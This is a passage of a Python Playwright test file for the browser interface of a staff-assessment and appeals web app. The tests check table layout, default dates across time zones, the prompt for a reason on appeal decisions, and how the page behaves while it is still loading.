    await page.click("#run-assessment")
    await expect(page.locator("#ranking-rows tr[data-staff='staff01']")).to_be_visible()
    await page.wait_for_timeout(2500)  # the held answer of 2030-01 has come back meanwhile
    await expect(page.locator("#assessment-card")).not_to_have_attribute("aria-busy", "true")
    await expect(page.locator("#ranking-rows tr[data-staff='staff01']")).to_be_visible()
    await expect(page.locator("#assess-empty")).to_be_hidden()
    await expect(page.locator("#month-state-text")).to_contain_text("2026年11月")

    await page.locator("#ranking-rows tr[data-staff='staff01'] button").click()
    await expect(page.locator("#person-title")).to_contain_text("张三")
    await page.click("#run-assessment")
    await expect(page.locator("#assessment-card")).not_to_have_attribute("aria-busy", "true")
    await expect(page.locator("#person-detail")).to_be_visible()
    await expect(page.locator("#person-title")).to_contain_text("张三")


@pytest.mark.browser
async def test_the_report_tables_row_names_stay_in_view_when_it_scrolls(page: Page, web_hub: Hub) -> None:
    """Tried: the report by person on an office PC's 1366x768, scrolled to its last column. It
    was: the names scrolled away with the figures, and no row could be told from another. Kept:
    the first column (heading and names) stays at the table's left edge, over the figures."""
    await bad_rating_appeal(web_hub)
    await page.set_viewport_size({"width": 1366, "height": 768})
    await sign_in(page, web_hub, "/reports")
    await page.fill("#from", THURSDAY.isoformat())
    await page.fill("#to", THURSDAY.isoformat())
    await page.select_option("#by", "staff")
    await page.click("#run-report")
    name = page.locator(".report-table tbody tr").first.locator("td").first
    await expect(name).to_contain_text("staff01")
    scroller = page.locator("#report")
    assert await scroller.evaluate("el => el.scrollWidth > el.clientWidth + 300"), "the table is wider than the page"
    left = (await scroller.bounding_box())["x"]
    await scroller.evaluate("el => { el.scrollLeft = el.scrollWidth; }")
    await page.wait_for_function("() => document.querySelector('#report').scrollLeft > 300")
    for cell in (name, page.locator(".report-table thead th").first):
        box = await cell.bounding_box()
        assert box is not None and abs(box["x"] - left) < 2, (box, left)
    on_top = await page.evaluate("""() => {
        const cell = document.querySelector('.report-table tbody td');
        window.scrollTo(0, cell.getBoundingClientRect().top + window.scrollY - 200);
        const box = cell.getBoundingClientRect();
        return document.elementFromPoint(box.left + 5, box.top + 5).closest('td, th') === cell;
    }""")
    assert on_top, "the name is drawn over the figures scrolled under it"



@pytest.mark.browser
async def test_without_the_hall_the_default_dates_are_the_browsers_own_day(web_hub: Hub, browser: Browser) -> None:
    """Tried: the report page in a browser set to Beijing time at 02:00 on 1 December, its
    request for /api/v1/hall failing (the default day then comes from the browser). Seen: the
    period and month read 2026-11-30 and 2026-11, the UTC day, as they do before 08:00 every
    morning. Kept: the browser's local day, 2026-12-01, and its month."""
    context = await browser.new_context(viewport={"width": 1366, "height": 768}, locale="zh-CN", timezone_id="Asia/Shanghai")
    try:
        page = await context.new_page()
        await page.clock.set_fixed_time(datetime(2026, 11, 30, 18, 0, tzinfo=timezone.utc))  # 02:00 in Beijing

        async def refuse(route: Route) -> None:
            await route.fulfill(status=503, json={"error": {"code": "unavailable", "message": "服务暂不可用"}})

        await page.route("**/api/v1/hall", refuse)
        await sign_in(page, web_hub, "/reports")
        await expect(page.locator("#view-reports")).to_be_visible()
        await expect(page.locator("#to")).to_have_value("2026-12-01")
        await expect(page.locator("#from")).to_have_value("2026-12-01")
        await expect(page.locator("#month")).to_have_value("2026-12")
    finally:
        await context.close()


@pytest.mark.browser
async def test_an_appeal_decided_without_a_reason_asks_for_one(page: Page, web_hub: Hub) -> None:
    """Tried: 采纳 and then 驳回 pressed on a pending appeal with the 复核理由 box empty, then with a
    reason. Seen: the hub's refusal 请求参数不正确：理由（reason）太短, its field name in English and
    nothing pointing at the box. Kept: the page asks for the reason in words a manager reads, puts
    the cursor in the row's box and sends nothing (the appeal stays pending); with a reason the
    decision is made and the message goes."""
    appeal = await bad_rating_appeal(web_hub)
    await sign_in(page, web_hub, "/reports")
    row = page.locator(f"#appeal-rows tr[data-appeal='{appeal}']")
    for button in ("button.accept", "button.reject"):
        await row.locator(button).click()
        await expect(page.locator("#appeal-error")).to_have_text("请先在复核理由框中写明理由（至少2个字），再采纳或驳回。")
        await expect(row.locator("input.appeal-reason")).to_be_focused()
    assert "reason" not in await page.locator("#appeals-card").inner_text()
    listed = await (await web_hub.client.get("/api/v1/appeals", headers=web_hub.auth("manager"))).json()
    assert [a["status"] for a in listed["appeals"]] == ["pending"]
    await row.locator("input.appeal-reason").fill("录像显示服务规范")
    await row.locator("button.accept").click()
    await expect(row.locator(".status")).to_have_text("已采纳")
    await expect(page.locator("#appeal-error")).to_have_text("")


@pytest.mark.browser
async def test_a_month_typed_while_the_page_sets_up_is_kept(page: Page, web_hub: Hub) -> None:
    """Tried: the report page with the hub slow to answer /api/v1/hall (1.5 s), January 2030
    typed and 查看考核 pressed as soon as the sign-in was accepted. Seen: the page was shown before
    it had read the hall; the month typed was then overwritten with this month, and the button,
    pressed before it answered, sent the bare form (the page reloaded). Kept: the fields are
    offered once set up, the month typed stays, and it is the month read, without a reload."""
    async def slow(route: Route) -> None:
        await asyncio.sleep(1.5)
        await route.continue_()

    await page.route("**/api/v1/hall", slow)
    navigations: list[str] = []
    await sign_in(page, web_hub, "/reports")
    page.on("framenavigated", lambda frame: navigations.append(frame.url))
    await page.fill("#month", "2030-01")
    await page.click("#run-assessment")
    await expect(page.locator("#assess-empty")).to_be_visible()
    await expect(page.locator("#month")).to_have_value("2030-01")
    assert navigations == []


# Each element's text and the number of lines it is laid out on.
TEXT_LINES = """elements => elements.map((e) => {
  const range = document.createRange();
  range.selectNodeContents(e);
  return [e.textContent, new Set([...range.getClientRects()].map((r) => Math.round(r.top))).size];
})"""


@pytest.mark.browser
@pytest.mark.parametrize("width", [1366, 1024])
async def test_the_appeals_headings_and_short_cells_keep_to_one_line(page: Page, web_hub: Hub, width: int) -> None:
    """Tried: a pending appeal on the report page at 1366x768 and 1024x768. Seen at 1024: the
    table broke its headings and short cells, 评 / 分, 待复 / 核, 2026-11- / 26. Kept: every heading
    and the day, number, person, rating and state of a row on one line, the citizen's reason
    wrapping as it needs, and the row's box and buttons inside the card."""
    appeal = await bad_rating_appeal(web_hub)
    await page.set_viewport_size({"width": width, "height": 768})
    await sign_in(page, web_hub, "/reports")
    row = page.locator(f"#appeal-rows tr[data-appeal='{appeal}']")
    await expect(row.locator("button.reject")).to_be_visible()
    lines = await page.eval_on_selector_all(
        "#appeal-table th, #appeal-rows td:nth-child(-n+4), #appeal-rows td.status", TEXT_LINES)
    assert len(lines) == 7 + 5 and {count for _, count in lines} == {1}, lines
    past = await row.evaluate("""tr => Math.max(...[...tr.lastElementChild.children].map((c) =>
        c.getBoundingClientRect().right - document.querySelector("#appeals-card").getBoundingClientRect().right))""")
    assert past <= 0, past
